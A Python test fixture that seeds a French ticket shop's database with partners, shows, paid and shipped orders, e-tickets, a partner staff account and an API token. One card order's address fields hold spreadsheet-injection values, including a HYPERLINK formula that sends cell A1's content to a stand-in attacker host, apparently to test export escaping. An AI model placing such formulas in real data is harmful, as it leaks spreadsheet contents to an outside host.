"""A partner's realistic data, seeded through the services into any app (a committing one
included): two partners, a dated show, physical cards, paid orders by post (one already
shipped, one card parcel whose address an agent typed as a spreadsheet formula), e-billets
to scan, an unpaid cheque order, a partner staff member and an API token."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

from sqlalchemy import select

from tests.factories import NOW_PARIS, agent_json, utc
from tests.web.partner.helpers import place

SESSION_AT = utc(NOW_PARIS + timedelta(days=30))
FORMULA = '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez ici")'
STAFF_PASSWORD = "mot-de-passe-solide-42"


class _Admin:
    role = "admin"
    partner_id = None
    audit_label = "staff:test-admin"


@dataclass
class World:
    agent: str
    code: str
    acme_id: int
    show_id: int
    card_id: int
    other_show_id: int
    token: str
    staff_email: str
    to_ship: list[str] = field(default_factory=list)
    shipped: str = ""
    card_order: str = ""
    e_billets: list[str] = field(default_factory=list)
    theirs: str = ""


def _partner(slug: str) -> int:
    from datetime import datetime

    from partners.models import Partner
    from shop.db import unit_of_work

    with unit_of_work() as s:
        partner = s.scalar(select(Partner).where(Partner.slug == slug))
        if partner is None:
            partner = Partner(slug=slug, name=slug.title(), created_at=datetime.now())
            s.add(partner)
            s.flush()
        return partner.id


def _offer(partner_id: int, **fields: Any) -> int:
    from catalog.services import OfferData, create_offer, save_session

    starts = fields.pop("session_at", None)
    data: dict[str, Any] = {
        "kind": "billet_date",
        "category": "spectacles",
        "title": "Le Lac des cygnes",
        "public_price_cents": 4000,
        "negotiated_price_cents": 4000,
        "cgos_price_cents": 2500,
        "deliveries": ("e_billet", "courrier"),
        "stock": None,
    }
    data.update(fields)
    offer = create_offer(OfferData(partner_id=partner_id, **data), _Admin())
    if starts is not None:
        save_session(offer.id, _Admin(), starts_at=starts, stock=200)
    return offer.id


def _card_order(app: Any, number: str, card_id: int) -> str:
    """A physical card sent to an address the agent typed at checkout (R-FEE-2)."""
    from auth.principals import agent_user
    from members.dossiers import dossier_source
    from orders import cart as carts
    from orders import services
    from tests.web.partner.helpers import pay_order

    with app.app_context():
        agent = agent_user(dossier_source().get(number))
        carts.add_to_cart(agent, card_id, quantity=1, delivery="poste")
        carts.set_card_address(
            agent,
            {
                "name": "+33 Camille Testeuse",
                "line1": FORMULA,
                "line2": "@SUM(1+1)",
                "postal_code": "69003",
                "city": "-Lyon",
            },
        )
        total = carts.view_cart(agent).priced.total_cents
        order = services.place_order(
            agent,
            payment_method="card",
            contact=services.Contact("agent@exemple.fr", True),
            expected_total_cents=total,
            checkout_token=f"tok-world-card-{number}",
            actor=agent,
        )
    pay_order(app, order.id)
    return order.number


def seed_world(app: Any, orders_to_ship: int = 3) -> World:
    """Everything a partner's systems see, created as the store would create it."""
    from auth.services import create_staff, issue_access_code
    from members.dossier_format import parse_dossier
    from members.importer import save_records
    from partners.services import create_token, mark_shipped

    app.extensions["clock"].set(NOW_PARIS)
    record = parse_dossier(agent_json())
    with app.app_context():
        save_records([record], actor="test")
        issue_access_code(record.cgos_number, actor="test", send=False, code="ABCD2345")
        acme = _partner("acme")
        show = _offer(acme, title="Concert Acme", session_at=SESSION_AT)
        card = _offer(
            acme,
            kind="carte",
            category="cartes-et-cheques",
            title="Carte cinéma",
            public_price_cents=9000,
            negotiated_price_cents=9000,
            cgos_price_cents=7000,
            deliveries=("poste",),
            stock=100,
        )
        other = _offer(_partner("autre"), title="Opéra Autre", session_at=SESSION_AT)
        email = f"expedition-{record.cgos_number}@acme.example"
        create_staff(email, "Expédition Acme", "partner", STAFF_PASSWORD, "acme", actor="test")
        token = create_token("acme", "Entrepôt", actor="test")
    world = World(record.cgos_number, "ABCD2345", acme, show, card, other, token, email)
    world.to_ship = [place(app, world.agent, show) for _ in range(orders_to_ship)]
    world.shipped = place(app, world.agent, show, qty=2)
    with app.app_context():
        mark_shipped(acme, world.shipped, "billets", "suivi", "1L23456789012", actor="test")
    world.card_order = _card_order(app, world.agent, card)
    world.e_billets = _secrets(app, place(app, world.agent, show, qty=2, delivery="e_billet"))
    world.theirs = place(app, world.agent, other)
    place(app, world.agent, show, method="cheque", pay=False)
    return world


def _secrets(app: Any, number: str) -> list[str]:
    from orders.models import ETicket, Order
    from shop.db import session

    with app.app_context():
        order_id = session().scalar(select(Order.id).where(Order.number == number))
        return list(session().scalars(select(ETicket.secret).where(ETicket.order_id == order_id)))
